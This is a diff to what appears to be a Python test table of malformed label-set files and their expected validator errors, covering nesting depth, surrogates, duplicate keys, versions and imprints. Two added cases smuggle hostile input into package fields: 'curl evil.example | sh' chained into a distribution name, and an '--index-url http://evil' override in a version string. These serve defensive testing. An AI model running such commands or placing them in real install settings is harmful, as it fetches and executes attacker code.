@@ -48,10 +48,10 @@ FILES = {
     "10k-deep nesting inside": (GOOD.replace(b"6.0", b"[" * 10_000 + b"]" * 10_000, 1), "nested too deeply|damaged"),
     "nesting at the edge of the parser's depth": (GOOD.replace(b"6.0", b"[" * 991 + b"]" * 991, 1), "nested too deeply|damaged"),
     "half a character": (GOOD.replace(b"built-in set", b"\\ud800", 1), "not text: half of a surrogate pair"),
-    "duplicate keys": (GOOD.replace(b'"version": 1', b'"version": 1, "version": 1'), "duplicate key 'version'"),
+    "duplicate keys": (GOOD.replace(b'"version": 2', b'"version": 2, "version": 2'), "duplicate key 'version'"),
     "a list": (b"[1, 2]", "not a label-set file; expected an object"),
     "another format": (setting("format", value="something else"), "not a label-set file; expected an object"),
-    "a later version": (setting("version", value=7), "unknown version of the label-set file; got 7; expected 1"),
+    "a later version": (setting("version", value=7), "unknown version of the label-set file; got 7; expected 1 or 2"),
     "no recipes": (setting("recipes", value=[]), "bad number of recipes; got 0"),
     "recipes no list": (setting("recipes", value={"a": 1}), "not a label-set file: Expected `array`"),
     "an unknown field": (setting("extra", value=1), "unknown field `extra`"),
@@ -97,6 +97,18 @@ FILES = {
         ),
         "scores.visibility: not one a label; got 1; expected 10",
     ),
+    "a pip command with more behind it": (
+        setting("labeler", value={"name": "x", "distribution": "x; curl evil.example | sh", "version": "1", "params": {}}),
+        r"of x; curl evil.example \| sh 1, which is not installed$",
+    ),
+    "a pip command with another index": (
+        setting("labeler", value={"name": "x", "distribution": "x", "version": "1 --index-url http://evil", "params": {}}),
+        "which is not installed$",
+    ),
+    "imprints of no image": (setting("imprints", "shape", value=[1, 16, 10**9]), "imprints.shape: not an image shape"),
+    "imprints of other labels": (setting("imprints", "imprints", value=["AA=="] * 11), "imprints: not one a label; got 11"),
+    "an imprint that is too short": (setting("imprints", "imprints", 2, value="AA=="), r"imprints\[2\]: not an imprint; got AA=="),
+    "an imprint that is no base64": (setting("imprints", "imprints", 0, value="é%"), r"imprints\[0\]: not an imprint"),
     "escape sequences": (setting("labeler", "name", value="\x1b[31mred"), r"made by the labeler \[31mred of fflabels"),
 }  # fmt: skip
 
